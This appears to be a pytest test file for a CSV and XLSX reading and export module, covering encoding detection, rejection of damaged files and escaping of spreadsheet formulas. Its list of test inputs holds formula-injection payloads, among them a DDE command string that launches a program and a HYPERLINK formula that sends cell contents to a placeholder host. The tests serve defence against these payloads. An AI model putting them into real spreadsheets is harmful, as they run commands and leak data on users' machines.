"""Tables in CSV: whatever encoding and delimiter they come in, and no formula on the way out."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook

from core.tabular import open_table, write_csv, write_xlsx
from core.tabular.cells import marked, unmarked
from core.tabular.errors import FileDamaged, FileEmpty, FileRefused, FileTooBig, FileTypeWrong

HEADER = ["Іс нөмірі", "ФИО ребёнка", "phone"]
ROW = ["1132-000001", "Әбдіқадырова Ұлжан", "+77010000001"]
DANGEROUS = [
    "=10+20+cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://x?"&A1)',
    "'=1",
    "''=1",
]


def rows_of(path: Path) -> list[tuple[int, list[str]]]:
    with open_table(path) as table:
        return list(table.rows())


def a_file(folder: Path, content: bytes) -> Path:
    path = folder / "table.csv"
    path.write_bytes(content)
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_ux_61_encodings_and_delimiters_are_found_by_looking(tmp_path: Path, encoding: str, delimiter: str) -> None:
    text = f"{delimiter.join(HEADER)}\r\n{delimiter.join(ROW)}\r\n"
    assert rows_of(a_file(tmp_path, text.encode(encoding))) == [(1, HEADER), (2, ROW)]


def test_ux_61_windows_1251_is_found_even_behind_a_header_of_ascii(tmp_path: Path) -> None:
    path = a_file(tmp_path, "case;name\r\n1;Ахметова\r\n".encode("cp1251"))
    assert rows_of(path)[1] == (2, ["1", "Ахметова"])
    far = a_file(tmp_path, b"case;name\r\n" + b"1;Aset\r\n" * 200_000 + "2;Щукин\r\n".encode("cp1251"))
    assert rows_of(far)[-1] == (200_002, ["2", "Щукин"])


def test_blank_lines_are_skipped_and_counted(tmp_path: Path) -> None:
    content = b'a;b\r\n\r\n;;\r\n \xc2\xa0;\r\n1;"x\r\ny"\r\n\r\n2;3'
    assert rows_of(a_file(tmp_path, content)) == [(1, ["a", "b"]), (5, ["1", "x\r\ny"]), (7, ["2", "3"])]


def test_a_table_is_read_as_often_as_asked(tmp_path: Path) -> None:
    with open_table(a_file(tmp_path, b"a,b\n1,2\n")) as table:
        assert list(table.rows()) == list(table.rows())


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", FileEmpty),
        (b"\r\n\r\n;;\r\n", FileEmpty),
        (b"\xef\xbb\xbf", FileEmpty),
        (b"%PDF-1.7\n1 0 obj", FileTypeWrong),
        (b"\x89PNG\r\n\x1a\n", FileTypeWrong),
        (b"<!DOCTYPE html><html><table>", FileTypeWrong),
        (b'<?xml version="1.0"?><Workbook/>', FileTypeWrong),
        (bytes(range(256)) * 20, FileTypeWrong),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, FileTypeWrong),
        (b"a;b\n" + b"x" * 3_000_000, FileTooBig),
        (b";".join([b"c"] * 61) + b"\n", FileTooBig),
        (b"PK\x03\x04 and nothing", FileDamaged),
    ],
    ids=lambda value: value.__name__ if isinstance(value, type) else value[:12].hex(),
)
def test_ux_55_what_is_no_table_is_refused_by_its_own_reason(
    tmp_path: Path, content: bytes, reason: type[FileRefused]
) -> None:
    with pytest.raises(reason), open_table(a_file(tmp_path, content)):
        pass


@pytest.mark.parametrize(
    "content",
    [
        "имя;b\nАсель;1\n".encode() + b"\xff\xfe;2\n",
        b'a;b\n1;"' + b"x\n" * 100_000,
        "имя;b\n1;2\n".encode("utf-16")[:-1],
    ],
)
def test_rel_26_a_file_that_breaks_off_says_after_which_row(tmp_path: Path, content: bytes) -> None:
    with pytest.raises(FileDamaged):
        rows_of(a_file(tmp_path, content))


@pytest.mark.parametrize("text", DANGEROUS)
def test_bad_08_what_would_run_is_marked_and_comes_back_unchanged(tmp_path: Path, text: str) -> None:
    assert marked(text) == f"'{text}"
    assert unmarked(marked(text)) == text
    path = tmp_path / "out.csv"
    with path.open("wb") as file:
        write_csv(file, ["name"], [[text]])
    written = next(iter(list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))[1:]))[0]
    assert written.startswith("'")
    assert unmarked(rows_of(path)[1][1][0]) == text


@given(st.text())
def test_bad_08_every_text_survives_the_round_trip_of_the_mark(text: str) -> None:
    assert unmarked(marked(text)) == text
    assert marked(text)[:1] not in set("=+-@\t\r\n\0＝＋－＠")


def test_sec_32_numbers_stay_numbers_and_phones_texts() -> None:
    file = io.BytesIO()
    write_csv(file, ["n", "phone"], [[-5, "+77010000001"], [Decimal("-1.50"), "x"], [None, date(2026, 2, 1)]])
    assert file.getvalue().decode("utf-8-sig") == ("n,phone\r\n-5,'+77010000001\r\n-1.50,x\r\n,01.02.2026\r\n")
    assert file.getvalue().startswith(b"\xef\xbb\xbf")


def test_sec_32_in_xlsx_dangerous_texts_are_texts_and_numbers_are_numbers() -> None:
    file = io.BytesIO()
    at = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)
    write_xlsx(file, ["t", "n", "d", "at"], [[text, -5, date(2026, 2, 1), at] for text in DANGEROUS])
    sheet = load_workbook(io.BytesIO(file.getvalue())).worksheets[0]
    for text, (cell, number, day, instant) in zip(DANGEROUS, sheet.iter_rows(min_row=2), strict=True):
        assert cell.data_type == "s"
        assert cell.quotePrefix
        assert str(cell.value).lstrip("\t\r\n").endswith(text.lstrip("\t\r\n\0"))
        assert (number.data_type, number.value) == ("n", -5)
        assert day.value == datetime(2026, 2, 1)  # noqa: DTZ001 - cells have no zone
        assert instant.value == datetime(2026, 11, 22, 8, 0)  # noqa: DTZ001
